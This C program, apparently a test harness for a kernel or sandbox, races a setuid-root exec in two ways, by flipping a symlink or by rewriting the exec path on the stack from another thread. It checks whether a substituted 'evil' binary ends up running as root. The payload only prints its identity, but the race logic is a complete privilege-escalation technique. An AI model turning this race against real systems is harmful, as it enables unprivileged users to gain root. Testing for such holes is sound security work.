// Races a set-user-ID exec, as a user, to run a program of its own with the
// owner's ids. Run as root in a directory it may write: it makes `victim`
// (this program, setuid root) and `evil` (this program too), then, as uid
// 1000, execs the victim again and again while it swaps what the exec reads:
//   symlink: another process flips the symlink `l` between the two, so that
//            a path opened again after the exec's checks names the evil one;
//   thread:  another thread of the caller rewrites the victim's path in the
//            arguments the exec stages below its stack, before the kernel
//            copies them.
// An exec'd copy prints which it is and its effective uid; the racer counts them.
#define _GNU_SOURCE
#include <grp.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/** Which copy this is: the evil one's bytes say "evil00" here (volatile: read from the mapped file, not folded). */
static volatile const char role[] = "ROLE:victim";

/** Copies this program to `to`, its role `name` (six bytes). */
static void copy_self(const char *to, const char *name, mode_t mode) {
  FILE *in = fopen("/proc/self/exe", "r"), *out = fopen(to, "w");
  static char buf[1 << 22];
  size_t n = fread(buf, 1, sizeof buf, in);
  char *r = memmem(buf, n, (const char *)role, sizeof role);
  if (r) memcpy(r + 5, name, 6);
  fwrite(buf, 1, n, out);
  fclose(in);
  fclose(out);
  chmod(to, mode);
}

static char victim[4096], evil[4096];
static atomic_int scanning;

/** Rewrites each copy of the victim's path it finds on the caller's stack into the evil one's (the same length). */
static void *rewrite_stack(void *arg) {
  char *top = arg, *bottom = top;
  FILE *maps = fopen("/proc/self/maps", "r");
  char line[512];
  while (fgets(line, sizeof line, maps)) {
    if (strstr(line, "[stack]")) bottom = (char *)strtoul(line, NULL, 16);
  }
  fclose(maps);
  size_t len = strlen(victim) + 1;
  // Its trapped calls are done (the sentry serves the exec alone); it ends with the exec.
  scanning = 1;
  for (;;) {
    for (char *p = bottom; p && p + len < top; p++) {
      p = memmem(p, top - p, victim, len);
      if (!p) break;
      memcpy(p, evil, len);
    }
  }
  return NULL;
}

/** Execs `path` in a child (with a stack rewriter beside it, for `thread`); what the program printed. */
static void run(const char *path, int thread, char *out, size_t size) {
  int p[2];
  if (pipe(p)) exit(2);
  pid_t c = fork();
  if (c == 0) {
    dup2(p[1], 1);
    char here;
    pthread_t t;
    if (thread) {
      pthread_create(&t, NULL, rewrite_stack, &here);
      while (!scanning) {}
    }
    execl(path, "racer-exec", (char *)NULL);
    _exit(127);
  }
  close(p[1]);
  ssize_t n = read(p[0], out, size - 1);
  out[n > 0 ? n : 0] = 0;
  close(p[0]);
  waitpid(c, NULL, 0);
}

int main(int argc, char **argv) {
  if (!strcmp(argv[0], "racer-exec")) {
    // Run by the exec: which file was mapped, with which effective uid.
    printf("%s %d\n", (const char *)role + 5, (int)geteuid());
    return 0;
  }
  if (argc != 4) { fprintf(stderr, "usage: %s DIR symlink|thread ROUNDS\n", argv[0]); return 2; }
  const char *dir = argv[1];
  int thread = !strcmp(argv[2], "thread"), rounds = atoi(argv[3]);
  snprintf(victim, sizeof victim, "%s/victim", dir);
  snprintf(evil, sizeof evil, "%s/evil00", dir);
  copy_self(victim, "victim", 04755);
  copy_self(evil, "evil00", 0755);
  chmod(dir, 0777);
  if (setgroups(0, NULL) || setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000)) { perror("setresuid"); return 2; }
  char link[4096], tmp[4096];
  snprintf(link, sizeof link, "%s/l", dir);
  snprintf(tmp, sizeof tmp, "%s/l.new", dir);
  pid_t flipper = 0;
  if (!thread) {
    flipper = fork();
    if (flipper == 0) {
      for (;;) {
        symlink(victim, tmp); rename(tmp, link);
        symlink(evil, tmp); rename(tmp, link);
      }
    }
  }
  int victim_root = 0, evil_root = 0;
  for (int i = 0; i < rounds; i++) {
    char out[256];
    run(thread ? victim : link, thread, out, sizeof out);
    if (!strcmp(out, "victim 0\n")) victim_root++;
    else if (!strcmp(out, "evil00 0\n")) evil_root++;
  }
  if (flipper) { kill(flipper, SIGKILL); waitpid(flipper, NULL, 0); }
  printf("victim as root %s, evil as root %d\n", victim_root ? "yes" : "never", evil_root);
  return 0;
}
